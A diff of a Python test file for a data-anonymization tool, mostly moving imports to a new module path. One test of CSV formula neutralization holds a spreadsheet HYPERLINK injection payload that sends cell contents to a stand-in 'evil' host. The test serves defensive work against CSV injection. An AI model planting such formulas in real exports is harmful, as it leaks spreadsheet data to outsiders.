@@ -1,5 +1,5 @@
 """The ``depersonalize`` command, run as a separate process (the installed console script of
-this interpreter's environment, else ``python -m pdanon.cli``)."""
+this interpreter's environment, else ``python -m pdanon.cli.depersonalize``)."""
 
 from __future__ import annotations
 
@@ -26,7 +26,7 @@ def _command() -> list[str]:
     found = shutil.which("depersonalize")
     if found and pathlib.Path(found).parent == pathlib.Path(sys.executable).parent:
         return [found]
-    return [sys.executable, "-m", "pdanon.cli"]
+    return [sys.executable, "-m", "pdanon.cli.depersonalize"]
 
 
 CMD = _command()
@@ -305,7 +305,7 @@ def test_parquet_output_is_not_escaped(tmp_path, csv_formulas):
 
 
 def test_main_in_process_captures_the_hasher_warning(capsys, csv_with_header):
-    from pdanon.cli import main
+    from pdanon.cli.depersonalize import main
 
     assert main(["-i", str(csv_with_header), "-f", "-a", "hasher", "--i_ids", "0"]) == 0
     captured = capsys.readouterr()
@@ -418,7 +418,7 @@ def test_progress_spinner_on_long_runs(big_csv, tmp_path, monkeypatch, capsys):
     # spinner with the elapsed time; a slow stand-in makes this run last
     import time
 
-    from pdanon import cli
+    from pdanon.cli import depersonalize as cli
     from pdanon.algorithms import RandomizationBaselineDepersonalizator as R
 
     slow = R.depersonalize
@@ -472,7 +472,8 @@ def test_progress_bar_of_greedy_and_datafly(big_csv, tmp_path, algorithm, desc):
 
 
 def test_progress_spinner_without_tqdm(big_csv, tmp_path, monkeypatch, capsys):
-    from pdanon import cli, progress
+    from pdanon import progress
+    from pdanon.cli import depersonalize as cli
 
     monkeypatch.setattr(progress, "tqdm_available", lambda: False)
     monkeypatch.setenv("PDANON_PROGRESS_DELAY", "0")
@@ -484,7 +485,7 @@ def test_progress_spinner_without_tqdm(big_csv, tmp_path, monkeypatch, capsys):
 
 
 def test_progress_object_waits_for_the_delay():
-    from pdanon.cli import Progress
+    from pdanon.cli.depersonalize import Progress
 
     buf = io.StringIO()
     with Progress("x", True, delay=10, stream=buf):
@@ -499,7 +500,7 @@ def test_progress_object_waits_for_the_delay():
 
 
 def test_compat_entry_point_is_the_same_main():
-    from pdanon.cli import main
+    from pdanon.cli.depersonalize import main
     from pdanon.compat.cp2025.depersonalize import main as compat_main
 
     assert compat_main is main
@@ -553,7 +554,7 @@ def test_datafly_and_greedy_enforce_l_and_t(csv_pairs, algorithm):
 
 
 def test_main_in_process_datafly_l(capsys, csv_pairs):
-    from pdanon.cli import main
+    from pdanon.cli.depersonalize import main
 
     assert main(["-i", str(csv_pairs), "-f", "-a", "datafly", "-m", "l", "-l", "2", "-k", "2",
                  "--i_ids", "0", "--s_ids", "3", "--types", "rr"]) == 0
@@ -675,7 +676,7 @@ def test_report_flag_writes_the_release_report(tmp_path):
 def test_report_kind_guess_without_the_input():
     """--report guesses a quasi-identifier's kind from the input column, or from the released
     one when rows were dropped and the input is left out of the report."""
-    from pdanon.cli import _kind_guess
+    from pdanon.cli.depersonalize import _kind_guess
 
     assert _kind_guess(pd.Series([1, 2]), None) == "real"
     assert _kind_guess(pd.Series(["a", "b"]), pd.Series([1, 2])) == "real"
@@ -811,7 +812,7 @@ MAX_KEY = 4096
 
 @pytest.mark.slow
 def test_key_file_bound(tmp_path, csv_with_header):
-    from pdanon.cli import MAX_KEY_FILE_BYTES
+    from pdanon.cli.depersonalize import MAX_KEY_FILE_BYTES
 
     assert MAX_KEY_FILE_BYTES == MAX_KEY
     ok = tmp_path / "ok.key"
@@ -913,7 +914,7 @@ def test_ragged_lines_name_the_line(tmp_path, text, header, message):
 def test_a_100000_field_line_is_refused_in_well_under_a_second(tmp_path, capsys):
     import time
 
-    from pdanon.cli import main
+    from pdanon.cli.depersonalize import main
 
     # before: pandas built a 99,999-level implicit index and the command hung
     path = tmp_path / "wide.csv"
@@ -976,7 +977,7 @@ def test_line_breaks_before_a_formula_are_quoted_and_guarded(tmp_path):
         w.writerows([[i, n] for i, n in enumerate(notes)])
     proc = run("--row-order", "input", "-i", src, "-f", "-a", "shuffler", *SHUFFLE_ID2)
     assert proc.returncode == 0, proc.stderr
-    from pdanon.csvsafe import neutralize_formulas
+    from pdanon.io.csvsafe import neutralize_formulas
 
     expected = neutralize_formulas(pd.DataFrame({"note": notes}))["note"].tolist()
     assert expected[0] == "x\r'=HYPERLINK(\"http://evil/?\"&A1)"
@@ -1069,7 +1070,7 @@ def test_output_summary_prints_named_figures(tmp_path, csv_with_header):
     assert lines[0].startswith("depersonalize: warning: -a shuffler keeps the identifier "
                                "columns (--i_ids 0)"), proc.stderr
     assert lines[2:] == ["rows 6"], proc.stderr
-    from pdanon.cli import COUNT_KEYS
+    from pdanon.cli.depersonalize import COUNT_KEYS
 
     assert {"rows", "changed_cells", *COUNT_KEYS.values()} <= set(FIGURES)
 
@@ -1127,7 +1128,7 @@ def test_parquet_output_carries_roles_and_info(codes_csv, tmp_path):
 
 
 def test_real_columns_become_numbers_and_text_stays_text(tmp_path, codes_csv):
-    from pdanon.cli import numbers_where_needed
+    from pdanon.cli.depersonalize import numbers_where_needed
 
     got = numbers_where_needed(CODES.replace("", None), {2: "real", 4: "ordered", 1: "ordered"})
     assert got["age"].tolist()[:2] == [30, 31] and str(got["age"].dtype) == "Int64"
